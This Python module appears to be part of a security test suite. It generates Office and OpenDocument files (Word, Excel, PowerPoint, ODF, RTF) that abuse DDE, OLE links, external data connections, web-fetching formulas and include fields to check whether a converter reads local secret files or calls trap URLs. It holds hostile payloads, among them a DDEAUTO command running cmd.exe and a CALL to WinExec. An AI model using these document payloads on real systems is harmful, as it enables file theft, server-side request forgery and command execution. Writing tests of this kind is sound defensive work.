"""Office documents that are linked with others: DDE, OLE, sections, data ranges, sounds."""

from __future__ import annotations

import zipfile
from pathlib import Path

from hostile.attack import OK, REFUSED, Attack, Make, fill, row
from hostile.attacks.documents import OFFICE, OOXML, XML, docx, odf, relations, xlsx
from hostile.traps import Traps
from samples import documents, hostile

_ENDS = (OK, *REFUSED, "engine_error")
"""None of these takes long: what runs out of time has shown nothing."""
_TEXT = "<text:p>Hello.</text:p>"
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def _row(name: str, route: str, make: Make | str) -> Attack:
    return row(name, route, make, *_ENDS)


def _code(code: str) -> str:
    """A field with its parts apart, as Word writes them."""
    char = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return (
        f"<w:p>{char.format('begin')}<w:r><w:instrText>{code}</w:instrText></w:r>"
        f"{char.format('separate')}<w:r><w:t>x</w:t></w:r>{char.format('end')}</w:p>"
    )


def _linked_object(relation: str) -> str:
    return (
        '<w:p><w:r><w:object xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:v="urn:schemas'
        '-microsoft-com:vml"><v:shape id="s" style="width:99pt;height:99pt"><v:imagedata '
        f'r:id="{relation}"/></v:shape><o:OLEObject Type="Link" ProgID="Excel.Sheet.12" '
        f'ShapeID="s" DrawAspect="Content" r:id="{relation}" UpdateMode="Always"><o:LinkType>'
        "EnhancedMetaFile</o:LinkType><o:LockedField>false</o:LockedField></o:OLEObject>"
        "</w:object></w:r></w:p>"
    )


def _book(link: str, formula: str, *external: tuple[str, str, str], **more: str) -> Make:
    """A workbook whose external link is `link`; `more`: further parts below `xl/`."""

    def make(path: Path, traps: Traps) -> None:
        cell = f'<row r="1"><c r="A1"><f>{formula}</f><v>1</v></c></row>'
        plain = path.with_name(f"{path.name}.plain")
        xlsx(cell, links="x")(plain, traps)
        parts = {
            "xl/link.xml": f'{XML}<externalLink xmlns="{_MAIN}" xmlns:r="{OFFICE}">{link}'
            "</externalLink>",
            "xl/_rels/link.xml.rels": relations(*external),
            **{f"xl/{name}.xml": text for name, text in more.items()},
        }
        filled = {name: fill(text, traps, path.stem).encode() for name, text in parts.items()}
        hostile.repacked(plain, path, filled)

    return make


def _connected(path: Path, traps: Traps) -> None:
    """Connections to a web page, a text file and a database, all to be refreshed on opening."""
    plain = path.with_name(f"{path.name}.plain")
    documents.make("xlsx", plain)
    connections = (
        f'{XML}<connections xmlns="{_MAIN}"><connection id="1" name="a" type="4" '
        'refreshOnLoad="1"><webPr url="{http}" sourceData="1" parsePre="1"/></connection>'
        '<connection id="2" name="b" type="6" refreshOnLoad="1"><textPr sourceFile="{file.csv}" '
        'comma="1"><textFields><textField/></textFields></textPr></connection><connection id="3" '
        'name="c" type="1" refreshOnLoad="1"><dbPr connection="DRIVER=x;DBQ={file.csv};SERVER='
        '127.0.0.1,{port}" command="SELECT 1"/></connection></connections>'
    )
    query = (
        f'{XML}<queryTable xmlns="{_MAIN}" name="a" connectionId="1" refreshOnLoad="1" '
        'autoFormatId="16"/>'
    )
    with zipfile.ZipFile(plain) as archive:
        types = archive.read("[Content_Types].xml").decode()
        book = archive.read("xl/_rels/workbook.xml.rels").decode()
    declared = "".join(
        f'<Override PartName="/xl/{part}" ContentType="{OOXML}spreadsheetml.{kind}+xml"/>'
        for part, kind in (("connections.xml", "connections"), ("query.xml", "queryTable"))
    )
    link = f'<Relationship Id="con" Type="{OFFICE}/connections" Target="connections.xml"/>'
    parts = {
        "[Content_Types].xml": types.replace("</Types>", f"{declared}</Types>"),
        "xl/_rels/workbook.xml.rels": book.replace("</Relationships>", f"{link}</Relationships>"),
        "xl/connections.xml": fill(connections, traps, path.stem),
        "xl/query.xml": query,
        "xl/worksheets/_rels/sheet1.xml.rels": relations(("q", "queryTable", "../query.xml")),
    }
    hostile.repacked(plain, path, {name: text.encode() for name, text in parts.items()})


def slides(tree: str, *external: tuple[str, str, str]) -> Make:
    """A presentation of one slide, with `tree` beside its shapes."""

    def make(path: Path, traps: Traps) -> None:
        plain = path.with_name(f"{path.name}.plain")
        documents.make("pptx", plain)
        slide, rels = "ppt/slides/slide1.xml", "ppt/slides/_rels/slide1.xml.rels"
        with zipfile.ZipFile(plain) as archive:
            body, links = archive.read(slide).decode(), archive.read(rels).decode()
        spaces = f'xmlns:r="{OFFICE}" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/'
        spaces += 'main" xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"'
        wrapped = fill(tree, traps, path.stem).replace("SPACES", spaces)
        more = relations(
            *((name, kind, fill(target, traps, path.stem)) for name, kind, target in external)
        ).partition("><")[2]
        assert "</p:spTree>" in body
        parts = {
            slide: body.replace("</p:spTree>", f"{wrapped}</p:spTree>"),
            rels: links.replace("</Relationships>", f"<{more}"),
        }
        hostile.repacked(plain, path, {name: text.encode() for name, text in parts.items()})

    return make


_BOUNDS = (
    '<p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="5000000" cy="5000000"/></a:xfrm>'
    '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr>'
)


def _pic(blip: str, more: str = "") -> str:
    return (
        f'<p:pic SPACES><p:nvPicPr><p:cNvPr id="99" name="x"/><p:cNvPicPr/><p:nvPr>{more}</p:nvPr>'
        f"</p:nvPicPr><p:blipFill><a:blip {blip}/><a:stretch><a:fillRect/></a:stretch>"
        f"</p:blipFill>{_BOUNDS}</p:pic>"
    )


_FRAME = (
    '<p:graphicFrame SPACES><p:nvGraphicFramePr><p:cNvPr id="98" name="x"/><p:cNvGraphicFramePr/>'
    '<p:nvPr/></p:nvGraphicFramePr><p:xfrm><a:off x="0" y="0"/><a:ext cx="5000000" cy="5000000"/>'
    '</p:xfrm><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/'
    'ole"><p:oleObj name="x" r:id="out" imgW="99" imgH="99" progId="Excel.Sheet.12"><p:link '
    'updateAutomatic="1"/></p:oleObj></a:graphicData></a:graphic></p:graphicFrame>'
)
_ACTION = (
    '<p:sp SPACES><p:nvSpPr><p:cNvPr id="97" name="x"><a:hlinkClick r:id="out" '
    'action="ppaction://program"/><a:hlinkHover r:id="out" action="ppaction://hlinkfile"/>'
    f"</p:cNvPr><p:cNvSpPr/><p:nvPr/></p:nvSpPr>{_BOUNDS}</p:sp>"
)


def _page(inside: str) -> Make:
    return odf("odp", f'<draw:page draw:name="p">{inside}</draw:page>')


def _frame(inside: str) -> str:
    return (
        '<draw:frame text:anchor-type="paragraph" svg:width="5cm" svg:height="5cm">'
        f"{inside}</draw:frame>"
    )


def _filled(address: str) -> str:
    """A fill that is a picture elsewhere, for a paragraph and for the page."""
    return (
        '<office:automatic-styles xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0">'
        '<style:style style:name="P1" style:family="paragraph"><style:paragraph-properties>'
        f'<style:background-image xlink:href="{address}" xlink:type="simple" '
        'xlink:actuate="onLoad"/></style:paragraph-properties></style:style>'
        "</office:automatic-styles>"
    )


def _range(address: str) -> str:
    return (
        '<table:table table:name="One"><table:table-row><table:table-cell office:value-type='
        '"string"><table:cell-range-source table:name="*" xlink:href="'
        f'{address}" xlink:type="simple" table:filter-name="Text - txt - csv (StarCalc)" '
        'table:filter-options="44,34,76,1" table:last-column-spanned="2" '
        'table:last-row-spanned="2" table:refresh-delay="PT00H00M01S"/><text:p>x</text:p>'
        "</table:table-cell></table:table-row></table:table>"
    )


_DDE = (
    'office:dde-application="soffice" office:dde-topic="{file}" office:dde-item="x" '
    'office:automatic-update="true"'
)
_CELL = '<table:table table:name="One"><table:table-row>{}</table:table-row></table:table>'.format(
    "".join(
        f'<table:table-cell table:formula="of:={formula}" office:value-type="string">'
        "<text:p>x</text:p></table:table-cell>"
        for formula in (
            "FILTERXML(WEBSERVICE(&quot;{uri.xml}&quot;);&quot;//note&quot;)",
            "COM.MICROSOFT.WEBSERVICE(&quot;{uri}&quot;)",
            "INDIRECT(&quot;'{uri.csv}'#$secret.A1&quot;)",
            "HYPERLINK(&quot;{http}&quot;;INDIRECT(&quot;'{http}'#$x.A1&quot;))",
            "GETPIVOTDATA(&quot;x&quot;;'{uri.csv}'#$secret.A1)",
            "VLOOKUP(1;'{uri.csv}'#$secret.A1:B2;2)",
        )
    )
)


def _rtf(body: str) -> str:
    return rf"{{\rtf1\ansi Hello.\par {body}\par}}"


_OBJECT = (
    r"{{\object\objautlink\objupdate\rsltpict\objw999\objh999{{\*\objclass Word.Document.8}}"
    r"{{\*\objdata 0105000001000000{length:08x}{name}00{topic:08x}{address}00{item:08x}00}}"
    r"{{\result x}}}}"
)


def _linked_rtf(path: Path, traps: Traps) -> None:
    """An OLE 1 link to a file, and one to an address (MS-OLEDS 2.2.6)."""

    def little(size: int) -> int:
        return int.from_bytes(size.to_bytes(4, "little"), "big")

    objects = "".join(
        _OBJECT.format(
            length=little(len(b"StdDocument") + 1),
            name=b"StdDocument".hex(),
            topic=little(len(target) + 1),
            address=target.encode().hex(),
            item=little(1),
        )
        for target in (traps.file("rtf"), traps.http(path.stem))
    )
    path.write_text(_rtf(objects))


_SHAPE = (
    r"{\shp{\*\shpinst\shpleft0\shptop0\shpright5000\shpbottom5000{\sp{\sn shapeType}{\sv 75}}"
    r"{\sp{\sn pibName}{\sv ADDRESS}}{\sp{\sn pibFlags}{\sv 14}}{\sp{\sn fillBlipName}{\sv ADDRESS}"
    r"}{\sp{\sn fillBlipFlags}{\sv 14}}}}"
)

ATTACKS = (
    _row("docx-dde", "docx > pdf odt",
        docx(_code("DDEAUTO soffice &quot;{file}&quot; x")
             + _code("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k cat {file}&quot;"))),
    _row("docx-link-field", "docx > pdf",
        docx(_code("LINK Word.Document.8 &quot;{file.rtf}&quot; &quot;&quot; \\a \\r"))),
    _row("docx-fields", "docx > pdf",
        docx("".join(_code(f"{name} &quot;{{{target}}}&quot; \\d \\* MERGEFORMAT") for name in
            ("INCLUDEPICTURE", "INCLUDETEXT", "IMPORT", "INCLUDE", "RD", "DATABASE", "EMBED",
             "MACROBUTTON", "AUTOTEXT", "FILLIN") for target in ("file.png", "http")))),
    _row("docx-object-file", "docx > pdf",
        docx(_linked_object("o"), ("o", "oleObject", "{uri.rtf}"))),
    _row("docx-object-http", "docx > pdf",
        docx(_linked_object("o"), ("o", "oleObject", "{http}.xlsx"))),
    _row("docx-vml-fill", "docx > pdf",
        docx('<w:p><w:r><w:pict xmlns:v="urn:schemas-microsoft-com:vml"><v:rect style="width:99pt;'
             'height:99pt"><v:fill r:id="f" type="frame"/><v:imagedata r:id="f"/></v:rect></w:pict>'
             "</w:r></w:p>", ("f", "image", "{uri.png}"))),
    _row("docx-vml-src", "docx > pdf",
        docx('<w:p><w:r><w:pict xmlns:v="urn:schemas-microsoft-com:vml"><v:shape style="width:99pt;'
             'height:99pt"><v:imagedata src="{uri.png}"/></v:shape><v:rect style="width:9pt;height:'
             '9pt"><v:fill src="{http}.png" type="frame"/></v:rect></w:pict></w:r></w:p>')),
    _row("docx-merge", "docx > pdf",
        docx(_code("MERGEFIELD leak"), ("m", "mailMergeSource", "{uri.csv}"),
             settings='<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType '
             'w:val="textFile"/><w:query w:val="SELECT * FROM x"/><w:dataSource r:id="m"/>'
             "<w:viewMergedData/></w:mailMerge>")),
    _row("xlsx-dde", "xlsx > pdf",
        _book('<ddeLink ddeService="soffice" ddeTopic="{file.csv}"><ddeItems><ddeItem name="A1" '
              'advise="1"/></ddeItems></ddeLink>', "[1]!A1")),
    _row("xlsx-ole-link", "xlsx > pdf",
        _book('<oleLink r:id="b" progId="Excel.Sheet.12"><oleItems><oleItem name="x" advise="1"/>'
              "</oleItems></oleLink>", "[1]!x", ("b", "oleObject", "{uri.csv}"))),
    _row("xlsx-book-http", "xlsx > pdf",
        xlsx('<row r="1"><c r="A1"><f>[1]Sheet1!A1</f><v>1</v></c></row>', links="{http}.xlsx")),
    _row("xlsx-formulas", "xlsx > pdf ods csv",
        xlsx('<row r="1"><c r="A1" t="str"><f>_xlfn.FILTERXML(_xlfn.WEBSERVICE("{uri.xml}"),'
             '"//note")</f></c><c r="B1"><f>INDIRECT("\'{folder}/[secret.csv]secret\'!A1")</f></c>'
             '<c r="C1"><f>_xlfn.IMAGE("{http}.png")</f></c><c r="D1"><f>RTD("x","127.0.0.1","a")'
             '</f></c><c r="E1"><f>CALL("kernel32","WinExec","JC","sh")</f></c></row>')),
    _row("xlsx-connections", "xlsx > pdf", _connected),
    _row("ods-formulas", "ods > csv pdf", odf("ods", _CELL)),
    _row("ods-range-file", "ods > csv pdf", odf("ods", _range("{uri.csv}"))),
    _row("ods-range-http", "ods > csv pdf", odf("ods", _range("{http}.csv"))),
    _row("ods-dde-links", "ods > csv pdf",
        odf("ods", '<table:table table:name="One"><table:table-row><table:table-cell '
            'table:formula="of:=DDE(&quot;soffice&quot;;&quot;{file.csv}&quot;;&quot;A1&quot;)"/>'
            "</table:table-row></table:table><table:dde-links><table:dde-link>"
            f"<office:dde-source {_DDE}/><table:table><table:table-row><table:table-cell/>"
            "</table:table-row></table:table></table:dde-link></table:dde-links>")),
    _row("ods-object", "ods > pdf",
        odf("ods", '<table:table table:name="One"><table:shapes>'
            + _frame('<draw:object xlink:href="{uri.csv}" xlink:type="simple" xlink:show="embed" '
                     'xlink:actuate="onLoad"/>')
            + _frame('<draw:image xlink:href="{uri.png}" xlink:type="simple" xlink:actuate="onLoad"'
                     "/>")
            + "</table:shapes><table:table-row><table:table-cell/></table:table-row>"
            "</table:table>")),
    _row("odt-dde", "odt > pdf docx",
        odf("odt", f'<text:section text:name="s"><office:dde-source {_DDE}/><text:p>x</text:p>'
            f"</text:section>{_TEXT}")),
    _row("odt-floating-frame", "odt > pdf",
        odf("odt", "<text:p>" + _frame('<draw:floating-frame xlink:href="{uri.html}" xlink:type="'
            'simple" xlink:show="embed" xlink:actuate="onLoad"/>') + f"</text:p>{_TEXT}")),
    _row("odt-plugins", "odt > pdf",
        odf("odt", "<text:p>" + "".join(_frame(f'<draw:{kind} xlink:href="{{http}}" xlink:type='
            '"simple" xlink:show="embed" xlink:actuate="onLoad"/>')
            for kind in ("plugin", "applet", "object-ole", "floating-frame"))
            + f"</text:p>{_TEXT}")),
    _row("odt-fills", "odt > pdf",
        odf("odt", f'<text:p text:style-name="P1">Hello.</text:p>{_TEXT}',
            before=_filled("{uri.png}"))),
    _row("odt-fills-http", "odt > pdf",
        odf("odt", f'<text:p text:style-name="P1">Hello.</text:p>{_TEXT}',
            before=_filled("{http}.png"))),
    _row("odt-index-file", "odt > pdf",
        odf("odt", '<text:alphabetical-index text:name="i"><text:alphabetical-index-source>'
            '<text:alphabetical-index-auto-mark-file xlink:href="{uri}" xlink:type="simple"/>'
            "</text:alphabetical-index-source><text:index-body><text:p>x</text:p></text:index-body>"
            f"</text:alphabetical-index>{_TEXT}")),
    _row("odt-database", "odt > pdf",
        odf("odt", '<text:p><text:database-display text:database-name="{uri.csv}" text:table-name='
            '"secret" text:table-type="table" text:column-name="1"><form:connection-resource '
            'xmlns:form="urn:oasis:names:tc:opendocument:xmlns:form:1.0" xlink:href="{uri.csv}"/>'
            f"x</text:database-display></text:p>{_TEXT}")),
    _row("odp-fill-file", "odp > pdf",
        _page(_frame('<draw:object xlink:href="{uri.rtf}" xlink:type="simple"/>')
              + _frame('<draw:floating-frame xlink:href="{uri.html}" xlink:type="simple"/>'))),
    _row("odp-sounds", "odp > pdf",
        _page('<draw:rect svg:width="5cm" svg:height="5cm"><office:event-listeners><presentation:'
              'event-listener script:event-name="dom:click" presentation:action="sound">'
              '<presentation:sound xlink:href="{http}.wav" xlink:type="simple"/>'
              "</presentation:event-listener></office:event-listeners></draw:rect>")),
    _row("pptx-picture-file", "pptx > pdf odp",
        slides(_pic('r:link="out"'), ("out", "image", "{uri.png}"))),
    _row("pptx-picture-embedded-file", "pptx > pdf",
        slides(_pic('r:embed="out"'), ("out", "image", "{uri.png}"))),
    _row("pptx-picture-http", "pptx > pdf",
        slides(_pic('r:link="out"'), ("out", "image", "{http}.png"))),
    _row("pptx-video", "pptx > pdf",
        slides(_pic("", '<a:videoFile r:link="out"/><a:audioFile r:link="out"/>'),
               ("out", "video", "{http}.mp4"))),
    _row("pptx-video-file", "pptx > pdf",
        slides(_pic("", '<a:videoFile r:link="out"/>'), ("out", "video", "{uri}"))),
    _row("pptx-object", "pptx > pdf", slides(_FRAME, ("out", "oleObject", "{uri.rtf}"))),
    _row("pptx-object-http", "pptx > pdf", slides(_FRAME, ("out", "oleObject", "{http}.xlsx"))),
    _row("pptx-action", "pptx > pdf", slides(_ACTION, ("out", "hyperlink", "{uri}"))),
    _row("rtf-dde", "rtf > pdf",
        _rtf(r'{\field{\*\fldinst DDEAUTO soffice "{file}" x}{\fldrslt x}}'
             r'{\field{\*\fldinst LINK Word.Document.8 "{file.rtf}" "" \\a \\r}{\fldrslt x}}')),
    _row("rtf-fields", "rtf > pdf",
        _rtf("".join(rf'{{\field{{\*\fldinst {name} "{{{target}}}" \\d}}{{\fldrslt x}}}}'
            for name in ("IMPORT", "INCLUDE", "RD", "DATABASE", "EMBED")
            for target in ("uri.png", "file.rtf", "http")))),
    _row("rtf-ole-link", "rtf > pdf odt", _linked_rtf),
    _row("rtf-shape-file", "rtf > pdf odt", _rtf(_SHAPE.replace("ADDRESS", "{file.png}"))),
    _row("rtf-shape-http", "rtf > pdf", _rtf(_SHAPE.replace("ADDRESS", "{http}.png"))),
    _row("rtf-merge", "rtf > pdf",
        _rtf(r"{\*\mailmerge{\mmmaindoctypeletters}{\mmdatatypeaccess}{\mmdatasource {file.csv}}"
             r"{\mmconnectstr DSN=127.0.0.1}{\mmquery SELECT * FROM x}}{\*\nextfile {file.rtf}}")),
)  # fmt: skip
